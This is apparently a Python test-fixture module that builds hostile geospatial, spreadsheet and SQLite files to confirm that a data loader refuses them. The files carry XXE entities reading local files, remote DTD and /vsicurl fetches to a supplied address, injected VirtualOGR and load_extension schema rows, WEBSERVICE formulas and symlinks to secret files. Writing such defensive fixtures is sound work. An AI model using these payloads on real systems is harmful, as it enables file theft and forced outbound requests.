"""Files as somebody would deliver them who wants to read the machine's other files or to have it call an address."""

import json
import sqlite3
import zipfile
from pathlib import Path

import ezdxf.document
import geopandas as gpd
import openpyxl
import shapely

CRS = "EPSG:4548"
SECRET = "TOPSECRET"
EAST, NORTH = 618_600.0, 3_885_800.0
_FEATURE = (
    '{"type":"Feature","properties":{"name":"楼"},"geometry":{"type":"Polygon","coordinates":'
    "[[[118.3,35.1],[118.3002,35.1],[118.3002,35.1002],[118.3,35.1]]]}}"
)


def buildings() -> gpd.GeoDataFrame:
    shapes = [shapely.box(EAST + 20 * n, NORTH, EAST + 20 * n + 10, NORTH + 10) for n in range(2)]
    return gpd.GeoDataFrame({"name": ["甲", "乙"]}, geometry=shapes, crs=CRS)


def write_secrets(folder: Path) -> dict[str, Path]:
    """Write what must never be read: a table, and the layer of another town."""
    folder.mkdir(parents=True)
    table, layer = folder / "secret.csv", folder / "building.geojson"
    table.write_text(f"name,b\n{SECRET},2\n", "utf-8")
    buildings().assign(name=SECRET).to_file(layer)
    buildings().assign(name=SECRET).to_file(folder / "building.shp", encoding="utf-8")
    return {"table": table, "layer": layer, "shapefile": folder / "building.shp"}


def _collection(members: str = "", after: str = "") -> str:
    return f'{{"type":"FeatureCollection",{members}"features":[{_FEATURE}]{after}}}'


def _gml(attributes: str = "", before: str = "", inside: str = "", after: str = "") -> str:
    ring = "118.3 35.1 118.3002 35.1 118.3002 35.1002 118.3 35.1"
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{before}<wfs:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs" '
        f'xmlns:gml="http://www.opengis.net/gml" xmlns:x="http://x" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" {attributes}><gml:featureMember><x:building gml:id="a.1">'
        f'<x:geom><gml:Polygon srsName="EPSG:4326"><gml:exterior><gml:LinearRing><gml:posList>{ring}</gml:posList>'
        f"</gml:LinearRing></gml:exterior></gml:Polygon></x:geom>{inside}<x:name>楼</x:name></x:building>"
        f"</gml:featureMember></wfs:FeatureCollection>{after}"
    )


def write_refused(folder: Path, address: str, secrets: dict[str, Path]) -> dict[str, str]:
    """Write sources that lead elsewhere; return name -> the rule they are refused by."""
    table, layer = secrets["table"], secrets["layer"]
    vrt = (
        f"<OGRVRTDataSource><OGRVRTLayer name='building'><SrcDataSource>{layer}</SrcDataSource></OGRVRTLayer>"
        f"<OGRVRTLayer name='far'><SrcDataSource>/vsicurl/{address}/vrt.geojson</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>"
    )
    job = json.dumps(
        {
            "type": "gdal_streamed_alg",
            "command_line": f"gdal vector pipeline ! read /vsicurl/{address}/x.geojson",
        }
    )
    named = '"crs":{"type":"%s","properties":{"%s":"%s"}},'
    link = named % ("link", "href", f"{address}/link")
    texts = {
        "vector.list_of_files": {
            "vrt.geojson": vrt, "vrt.json": f"\n {vrt}", "vrt_in_text.geojson": _collection(f'"x":{json.dumps(vrt)},'),
            "vrt_before.gml": _gml(before=vrt), "vrt_after.gml": _gml(after=vrt), "vrt.mif": f"Version 300\n{vrt}",
            "vrt.tab": f"!table\n!version 300\n{vrt}", "vrt.gml": vrt, "job.geojson": job, "job.json": job,
            "job_escaped.json": job.replace("alg", "\\u0061lg"),
            "wfs.gml": f"<OGRWFSDataSource><URL>{address}/wfs</URL></OGRWFSDataSource>",
            "wfs_hidden.gml": _gml(after=f"<OGRWFSDataSource><URL>{address}/wfs</URL></OGRWFSDataSource>"),
            "services.gml": f'<WFS_Capabilities xmlns="http://www.opengis.net/wfs"><x href="{address}/c"/></WFS_Capabilities>',
            "csw.gml": f"<OGRCSWDataSource><URL>{address}/csw</URL></OGRCSWDataSource>",
            "raster.gml": f"<VRTDataset><SourceFilename>/vsicurl/{address}/a.tif</SourceFilename></VRTDataset>",
            "wms.gml": f'<GDAL_WMS><Service name="WMS"><ServerUrl>{address}/wms</ServerUrl></Service></GDAL_WMS>',
            "planet.gml": f'<Product_Observational xmlns="http://pds.nasa.gov/pds4/pds/v1"><file_name>{table}</file_name></Product_Observational>',
        },
        "vector.crs_link": {
            "crs_link.geojson": _collection(link), "crs_after.geojson": _collection(after="," + link.rstrip(",")),
            "crs_url.geojson": _collection(named % ("url", "url", f"{address}/url")),
            "crs_name.geojson": _collection(named % ("name", "name", f"{address}/name")),
            "crs_file.geojson": _collection(named % ("name", "name", table)),
            "crs_escaped.geojson": _collection(link.replace("crs", "\\u0063r\\u0073")),
            "crs_commented.geojson": _FEATURE[:-1] + "," + link.rstrip(",").replace('"crs":', '"crs"/**/:') + "}",
            "crs_spaced.geojson": _collection(link.replace(":", " \n:\t")),
        },
        "vector.other_kind": {
            "topo.json": '{"type":"Topology","objects":{},"arcs":[]}',
            "topo_last.geojson": '{"arcs":[],"objects":{},"type":"Topology"}',
            "esri.json": '{"geometryType":"esriGeometryPoint","spatialReference":{"wkid":4326},"features":[]}',
            "stac.json": '{"type":"Feature","stac_version":"1.0.0","geometry":null,"properties":{},"assets":{}}',
            "places.gml": f'<kml xmlns="http://www.opengis.net/kml/2.2"><NetworkLink><Link><href>{address}/kml</href></Link></NetworkLink></kml>',
            "track.gml": '<gpx xmlns="http://www.topografix.com/GPX/1/1"/>',
        },
        "vector.document_type": {
            "entity.gml": _gml(before=f'<!DOCTYPE r [<!ENTITY e SYSTEM "file://{table}">]>', inside="<x:b>&e;</x:b>"),
            "dtd.gml": _gml(before=f'<!DOCTYPE r SYSTEM "{address}/dtd">'),
            "schema_dtd.gml": _gml(),
        },
        "vector.names_elsewhere": {
            "schema.gml": _gml(), "schemas.gml": _gml(), "schema_of_file.gml": _gml(),
            "view.tab": f'!table\n!version 100\nopen table "{secrets["shapefile"]}" hide\ncreate view v as select * from building\n',
            "seamless.tab": '!table\n!version 450\n\nDefinition Table\n  Type NATIVE\n  Fields 1\n    Table Char (99) ;\nbegin_metadata\n"\\IsSeamless" = "TRUE"\nend_metadata\n',
            "data.tab": f'!table\n!version 300\nDefinition Table\n  File "{secrets["shapefile"].with_suffix(".dbf")}"\n  Type DBF\n  Fields 1\n    name Char (9) ;\n',
            "picture.tab": '!table\n!version 300\nDefinition Table\n  File "/etc/x.tif"\n  Type "RASTER"\n',
        },
        "vector.other_suffix": {"server.gml": _collection(), "collection.gpkg": _collection()},
    }  # fmt: skip
    for files in texts.values():
        for name, text in files.items():
            (folder / name).write_text(text, "utf-8")
    start = '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="http://x">'
    for name, included in (
        ("schema", f"{address}/a.xsd"),
        ("schema_of_file", str(table)),
        ("schemas", "more.xsd"),
        ("more", f"{address}/b.xsd"),
    ):
        (folder / f"{name}.xsd").write_text(f'{start}<xs:include schemaLocation="{included}"/></xs:schema>')
    (folder / "schema_dtd.xsd").write_text(f'<!DOCTYPE a SYSTEM "{address}/x.dtd">{start}</xs:schema>')
    rules = {name: rule for rule, files in texts.items() for name in files}
    with zipfile.ZipFile(folder / "packed.zip", "w") as archive:
        archive.writestr("inside/packed.geojson", vrt)
    rules["packed.geojson"] = "vector.list_of_files"
    rules |= _write_workbooks(folder, address, table)
    return rules | _write_databases(folder, address, secrets) | _write_links(folder, secrets)


def _write_databases(folder: Path, address: str, secrets: dict[str, Path]) -> dict[str, str]:
    virtual = {
        "virtual_ogr": f"CREATE VIRTUAL TABLE building USING VirtualOGR('{secrets['layer']}')",
        "virtual_far": f"CREATE VIRTUAL TABLE building USING \"VirtualOGR\"('/vsicurl/{address}/v.geojson')",
        "virtual_shape": f"create /* a */ virtual\ntable building using VirtualShape('{secrets['shapefile']}', 'UTF-8', 4548)",
        "virtual_text": f"CREATE VIRTUAL TABLE building USING VirtualText('{secrets['table']}')",
    }
    view = {
        "view_geocode": "CREATE VIEW far AS SELECT fid, ogr_geocode('x') AS g FROM building",
        "view_quoted": f"CREATE VIEW far AS SELECT \"gdal_get_layer_value\" /* */ ('{secrets['table']}', 'a') AS g FROM building",
        "view_load": "CREATE VIEW far AS SELECT load_extension('x.so') AS g",
        "view_blob": f"CREATE VIEW far AS SELECT BlobFromFile('{secrets['table']}') AS g",
    }
    for name, sql in {**virtual, **view}.items():
        path = folder / f"{name}.gpkg"
        buildings().to_file(path, layer="building", engine="pyogrio")
        with sqlite3.connect(path, isolation_level=None) as db:
            db.execute("PRAGMA writable_schema = ON")
            if name in virtual:
                db.execute("DELETE FROM sqlite_master WHERE name = 'building'")
            kind, table = ("table", "building") if name in virtual else ("view", "far")
            db.execute("INSERT INTO sqlite_master VALUES (?, ?, ?, 0, ?)", (kind, table, table, sql))
            if name in view:
                db.execute(
                    "INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('far', 'attributes', 'far')"
                )
        db.close()
    return {f"{name}.gpkg": "vector.table_elsewhere" for name in (*virtual, *view)}


def _write_workbooks(folder: Path, address: str, table: Path) -> dict[str, str]:
    """Write workbooks whose parts declare entities; the sheet's first row is a survey's, so that they would be read."""
    book = openpyxl.Workbook()
    book.active.append(["管线点号", "X坐标", "Y坐标", "地面高程"])
    book.save(folder / "plain.xlsx")
    declaration = f'<!DOCTYPE a [<!ENTITY e SYSTEM "file://{table}"><!ENTITY % f SYSTEM "{address}/f">%f;]>'
    parts = {
        "book.xlsx": "xl/workbook.xml",
        "sheet.xlsx": "xl/worksheets/sheet1.xml",
        "links.xlsx": "xl/_rels/workbook.xml.rels",
    }
    for name, part in parts.items():
        with zipfile.ZipFile(folder / "plain.xlsx") as plain, zipfile.ZipFile(folder / name, "w") as hostile:
            for member in plain.namelist():
                content = plain.read(member).replace("管线点号".encode(), b"&e;" if member == part else b"A")
                head, mark, rest = content.partition(b"?>")
                content = head + mark + declaration.encode() + rest if mark else declaration.encode() + content
                hostile.writestr(member, content if member == part else plain.read(member))
    (folder / "plain.xlsx").unlink()
    return dict.fromkeys(parts, "survey.document_type")


def _write_links(folder: Path, secrets: dict[str, Path]) -> dict[str, str]:
    (folder / "link.geojson").symlink_to(secrets["layer"])
    buildings().to_file(folder / "linked.shp", encoding="utf-8")
    (folder / "linked.dbf").unlink()
    (folder / "linked.dbf").symlink_to(secrets["shapefile"].with_suffix(".dbf"))
    (folder / "resolved.gml").write_text(_gml(), "utf-8")
    (folder / "resolved.xsd").symlink_to(secrets["table"])
    return {
        "link.geojson": "source.link_outside",
        "linked.shp": "source.part_elsewhere",
        "resolved.gml": "source.part_elsewhere",
    }


def write_readable(folder: Path, address: str, secrets: dict[str, Path]) -> list[str]:
    """Write sources that name other files and addresses as ordinary ones do, and are read without following them."""
    table = secrets["table"]
    request = f"{address}/wfs?SERVICE=WFS&amp;VERSION=1.1.0&amp;REQUEST=DescribeFeatureType&amp;TYPENAME=x:building"
    (folder / "described.gml").write_text(
        _gml(f'xsi:schemaLocation="http://x {request}"', inside=f'<x:r xlink:href="{address}/x#a"/>'), "utf-8"
    )
    (folder / "pages.geojson").write_text(_collection(f'"links":[{{"rel":"next","href":"{address}/next"}}],'), "utf-8")
    (folder / "named.geojson").write_text(
        _collection('"crs":{"type":"name","properties":{"name":"http://www.opengis.net/def/crs/EPSG/0/4326"}},'),
        "utf-8",
    )
    drawing = ezdxf.document.Drawing.new("R2010")
    drawing.modelspace().add_lwpolyline(
        [(EAST, NORTH), (EAST + 9, NORTH), (EAST + 9, NORTH + 9)],
        close=True,
        dxfattribs={"layer": "building"},
    )
    image = drawing.add_image_def(str(table), (10, 10))
    drawing.modelspace().add_image(image, (EAST, NORTH), (1, 1))
    drawing.add_xref_def(str(table), "outside")
    drawing.modelspace().add_blockref("outside", (EAST, NORTH))
    drawing.saveas(folder / "references.dxf")
    book = openpyxl.Workbook()
    book.active.append(["a", f"='file://{table}'#$Sheet1.A1", f'=WEBSERVICE("{address}/cell")'])
    book.save(folder / "formulas.xlsx")
    (folder / "network.inp").write_text(
        "[JUNCTIONS]\n J1 10\n J2 11\n[PIPES]\n P1 J1 J2 10 100 100\n"
        f"[OPTIONS]\n Units LPS\n Map {table}\n Hydraulics Use {table}\n[BACKDROP]\n FILE {table}\n"
        f"[COORDINATES]\n J1 {EAST} {NORTH}\n J2 {EAST + 9} {NORTH}\n",
        "utf-8",
    )
    return ["described.gml", "pages.geojson", "named.geojson", "references.dxf", "network.inp"]
